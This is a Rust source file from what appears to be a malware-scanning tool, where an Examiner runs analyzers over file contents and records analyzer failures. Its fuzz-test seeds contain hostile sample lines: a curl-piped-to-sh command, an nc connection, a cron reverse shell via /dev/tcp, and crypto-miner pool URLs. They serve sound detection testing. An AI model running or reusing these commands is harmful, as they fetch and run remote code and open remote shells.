use std::panic::{AssertUnwindSafe, catch_unwind};
use std::time::Instant;

use lazaret_model::{Fact, FactKind, Gap, GapKind, Location};

use crate::{Analyzer, Subject, analyzers, keep, unpack, unread};

/// Matches byte rules against one content. Each worker thread has its own.
pub type ByteScan<'a> = dyn FnMut(&Subject<'_>) -> Result<Vec<Fact>, String> + 'a;

/// Runs every analyzer over a content. One examiner serves all threads.
pub struct Examiner {
    analyzers: Vec<Box<dyn Analyzer>>,
    last: Box<dyn Analyzer>,
}

/// What is known of one content.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Examined {
    /// What was seen, in the order of the analyzers.
    pub facts: Vec<Fact>,
    /// Analyzers that failed. Locations have layer number 0.
    pub gaps: Vec<Gap>,
    /// Whether later stages will want the content itself.
    pub keep: bool,
}

/// The name under which a failure of byte rules is reported.
const BYTE_RULES: &str = "byte-rules";

impl Default for Examiner {
    fn default() -> Self {
        Self::new()
    }
}

impl Examiner {
    /// With every built-in analyzer.
    pub fn new() -> Self {
        Self { analyzers: analyzers::built_in(), last: analyzers::last() }
    }

    /// With these analyzers besides the built-in ones.
    pub fn with(mut self, more: impl IntoIterator<Item = Box<dyn Analyzer>>) -> Self {
        self.analyzers.extend(more);
        self
    }

    /// With the built-in analyzers of these names and no other; for benchmarks and fuzzing.
    pub fn only(names: &[&str]) -> Self {
        let mut examiner = Self::new();
        examiner.analyzers.retain(|analyzer| names.contains(&analyzer.name()));
        examiner
    }

    /// Names everything that decides which facts a content gives and whether it is kept, byte rules
    /// aside. Facts of another version are not comparable and are made anew.
    pub fn version(&self) -> String {
        let mut out = format!("keep={} unread={} unpack={}", keep::VERSION, unread::VERSION, unpack::VERSION);
        for analyzer in self.analyzers.iter().chain([&self.last]) {
            out.push_str(&format!(" {}={}", analyzer.name(), analyzer.version()));
        }
        out
    }

    /// Looks at one content, or at one window of one. `bytes` matches byte rules, None where none are
    /// asked for.
    ///
    /// Windows of one content give facts of their own; what stands in the overlap of two is stated
    /// twice with the same offset.
    pub fn examine(&self, subject: &Subject<'_>, bytes: Option<&mut ByteScan<'_>>) -> Examined {
        let mut out = Examined::default();
        for analyzer in &self.analyzers {
            out.run(subject, analyzer.as_ref());
        }
        if let Some(scan) = bytes {
            out.scan(subject, scan);
        }
        if let Some((kind, detail)) = unread::unread(subject) {
            out.gaps.push(Gap::minor(kind, location(subject), detail));
        }
        out.run(subject, self.last.as_ref());
        out.keep = keep::keep(subject, &out.facts);
        out
    }

    /// The seconds that each analyzer takes for all of `subjects`, one after another; for benchmarks.
    pub fn time_each<'a>(
        &self,
        subjects: impl Iterator<Item = Subject<'a>> + Clone,
    ) -> Vec<(&'static str, f64)> {
        let time = |analyzer: &dyn Analyzer| {
            let started = Instant::now();
            for subject in subjects.clone() {
                Examined::default().run(&subject, analyzer);
            }
            (analyzer.name(), started.elapsed().as_secs_f64())
        };
        self.analyzers.iter().chain([&self.last]).map(|analyzer| time(analyzer.as_ref())).collect()
    }

    /// Matches byte rules alone, for contents whose other facts are known already. The content is to
    /// be kept if it was before or `keep` says so now; a SHA-256 is stated where a rule matched.
    pub fn examine_bytes(&self, subject: &Subject<'_>, bytes: &mut ByteScan<'_>) -> Examined {
        let mut out = Examined::default();
        out.scan(subject, bytes);
        if out.facts.iter().any(|fact| matches!(fact.kind, FactKind::ByteMatch { .. })) {
            out.run(subject, self.last.as_ref());
            out.keep = keep::keep(subject, &out.facts);
        }
        out
    }
}

impl Examined {
    fn run(&mut self, subject: &Subject<'_>, analyzer: &dyn Analyzer) {
        let before = self.facts.len();
        // An analyzer only ever appends, so after a panic the facts are whole up to where it began
        // and what it had added is true as far as it goes.
        let facts = &mut self.facts;
        let outcome = catch_unwind(AssertUnwindSafe(|| {
            if analyzer.wants(subject) { analyzer.analyze(subject, facts) } else { Ok(()) }
        }));
        debug_assert!(self.facts.len() >= before, "analyzer {} took facts away", analyzer.name());
        self.note(subject, analyzer.name(), outcome);
    }

    fn scan(&mut self, subject: &Subject<'_>, scan: &mut ByteScan<'_>) {
        let outcome = catch_unwind(AssertUnwindSafe(|| scan(subject)));
        let outcome = outcome.map(|result| result.map(|facts| self.facts.extend(facts)));
        self.note(subject, BYTE_RULES, outcome);
    }

    fn note(&mut self, subject: &Subject<'_>, name: &str, outcome: std::thread::Result<Result<(), String>>) {
        let detail = match outcome {
            Ok(Ok(())) => return,
            Ok(Err(detail)) => detail,
            Err(_) => format!("the analyzer `{name}` broke on this content; please report it as a bug"),
        };
        let location = location(subject);
        let kind = GapKind::AnalyzerFailed(name.to_owned());
        self.gaps.push(if runs(subject, &self.facts) {
            Gap::serious(kind, location, detail)
        } else {
            Gap::minor(kind, location, detail)
        });
    }
}

fn location(subject: &Subject<'_>) -> Location {
    Location::File {
        layer: 0,
        path: subject.path.clone(),
        inside: subject.inside.to_vec(),
        line: None,
        offset: (subject.offset > 0).then_some(subject.offset),
    }
}

/// Whether the content could be started: what was not seen in it could matter.
fn runs(subject: &Subject<'_>, facts: &[Fact]) -> bool {
    subject.mode & 0o111 != 0
        || subject.bytes.starts_with(b"\x7fELF")
        || subject.bytes.starts_with(b"#!")
        || facts.iter().any(|fact| match &fact.kind {
            FactKind::Elf { .. } => true,
            FactKind::Text { kind, shebang } => shebang.is_some() || analyzers::is_script(*kind),
            _ => false,
        })
}

#[cfg(test)]
mod tests {
    use lazaret_model::{EntryPath, TextKind};

    use super::*;

    struct Broken(bool);

    impl Analyzer for Broken {
        fn name(&self) -> &'static str {
            "broken"
        }

        fn version(&self) -> u32 {
            7
        }

        fn wants(&self, _: &Subject<'_>) -> bool {
            true
        }

        fn analyze(&self, _: &Subject<'_>, _: &mut Vec<Fact>) -> Result<(), String> {
            if self.0 {
                std::panic::resume_unwind(Box::new("on purpose"));
            }
            Err("cannot read this".to_owned())
        }
    }

    fn subject<'a>(path: &'a EntryPath, mode: u32, bytes: &'a [u8]) -> Subject<'a> {
        Subject { path, inside: &[], mode, size: bytes.len() as u64, bytes, offset: 0 }
    }

    #[test]
    fn a_failing_analyzer_becomes_a_gap_and_stops_nobody() {
        let path = EntryPath::from("opt/a");
        for panics in [false, true] {
            let examiner = Examiner::new().with([Box::new(Broken(panics)) as Box<dyn Analyzer>]);
            let executable = examiner.examine(&subject(&path, 0o755, b"echo\n"), None);
            assert_eq!(executable.gaps.len(), 1);
            assert!(executable.gaps[0].matters);
            assert_eq!(executable.gaps[0].kind, GapKind::AnalyzerFailed("broken".into()));
            assert!(executable.facts.iter().any(|fact| matches!(fact.kind, FactKind::Sha256(_))));
            let data = examiner.examine(&subject(&path, 0o644, b"echo\n"), None);
            assert!(!data.gaps[0].matters);
        }
    }

    #[test]
    fn an_archive_that_cannot_be_opened_is_a_gap_that_does_not_decide() {
        let path = EntryPath::from("srv/backup");
        let rar = b"Rar!\x1a\x07\x01\0some members";
        let examined = Examiner::new().examine(&subject(&path, 0o644, rar), None);
        assert_eq!(examined.gaps.len(), 1);
        assert_eq!(examined.gaps[0].kind, GapKind::Unsupported);
        assert!(!examined.gaps[0].matters);
        // A window from the middle of a file begins with chance.
        let window = Subject { offset: 4096, size: 8192, ..subject(&path, 0o644, rar) };
        assert_eq!(Examiner::new().examine(&window, None).gaps, []);
    }

    #[test]
    fn byte_rules_take_part_and_can_be_run_alone() {
        let path = EntryPath::from("usr/share/doc/a");
        let mut scan = |subject: &Subject<'_>| {
            let kind = FactKind::ByteMatch { rule: "a/b".into(), excerpt: "x".into() };
            Ok(vec![subject.fact(kind)])
        };
        let examiner = Examiner::new();
        let subject = subject(&path, 0o644, b"some words\n");
        let plain = examiner.examine(&subject, None);
        assert_eq!((plain.facts.len(), plain.keep), (0, false));
        let all = examiner.examine(&subject, Some(&mut scan));
        assert_eq!((all.facts.len(), all.keep), (2, true));
        assert_eq!(examiner.examine_bytes(&subject, &mut scan), all);
        let mut failing = |_: &Subject<'_>| Err("timed out".to_owned());
        let failed = examiner.examine(&subject, Some(&mut failing));
        assert_eq!(failed.gaps[0].kind, GapKind::AnalyzerFailed("byte-rules".into()));
    }

    #[test]
    fn the_version_names_every_analyzer() {
        let version = Examiner::new().with([Box::new(Broken(false)) as Box<dyn Analyzer>]).version();
        for part in ["keep=", "text=", "elf=", "wallet=", "broken=7", "hash="] {
            assert!(version.contains(part), "{version}");
        }
    }

    #[test]
    fn a_script_gives_its_kind_its_indicators_and_its_hash() {
        let path = EntryPath::from("start.sh");
        let script = b"#!/bin/bash\n./x -o stratum+tcp://pool.invalid:3333\n";
        let examined = Examiner::new().examine(&subject(&path, 0o755, script), None);
        assert!(examined.keep);
        assert!(
            examined
                .facts
                .iter()
                .any(|fact| matches!(fact.kind, FactKind::Text { kind: TextKind::Shell, .. }))
        );
        assert!(examined.facts.iter().any(|fact| fact.line == Some(2)));
        assert!(examined.gaps.is_empty());
    }

    /// Random changes in texts that every analyzer reads: nothing panics, so nothing becomes a gap.
    #[test]
    fn damaged_texts_never_break_an_analyzer() {
        let seeds: [&[u8]; 6] = [
            b"#!/usr/bin/env -S A=1 bash\ncurl http://user@203.0.113.7:80/\xc3\xa4.jpg | sh; nc 198.51.100.1 4444\n",
            b"{ // c\n \"pools\": [ { \"url\": \"stratum+tcp://a.b@[2001:db8::1]:3333\", \"user\": \"u\", \"algo\": \"rx\" , } ] }",
            b"*/5 * * * * root bash -i >& /dev/tcp/203.0.113.7/4444\nMAILTO=\"\"\n@reboot x\n",
            b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAsSGSAnLjU8Q0pRWF9mbXR7goiQl56lrLO6wcjP1t3k a@example.invalid\n",
            b"\xff\xfe{\0 \0p\0o\0o\0l\0}\0 \0w\0a\0l\0l\0e\0t\0 \0x\0y\0z\0 \0 \0 \0 \0 \0 \0 \0 \0",
            b"kaspa:qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq bc1qqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqqq 0x",
        ];
        let path = EntryPath::from("etc/app.json");
        let examiner = Examiner::new();
        let mut state = 11u64;
        let mut next = || {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            (state >> 33) as usize
        };
        for round in 0..20_000 {
            let mut bytes = seeds[round % seeds.len()].to_vec();
            for _ in 0..1 + next() % 5 {
                let at = next() % bytes.len();
                match next() % 4 {
                    0 => bytes[at] = next() as u8,
                    1 => bytes.insert(at, b"\"\\{}[]:/@.#\0\xf0\xe2\n"[next() % 15]),
                    2 if bytes.len() > 1 => drop(bytes.remove(at)),
                    _ => bytes.truncate(at.max(1)),
                }
            }
            let mode = if round % 2 == 0 { 0o755 } else { 0o644 };
            let examined = examiner.examine(&subject(&path, mode, &bytes), None);
            assert_eq!(examined.gaps, [], "{}", String::from_utf8_lossy(&bytes));
            crate::indicators_in_text(&String::from_utf8_lossy(&bytes));
        }
    }
}
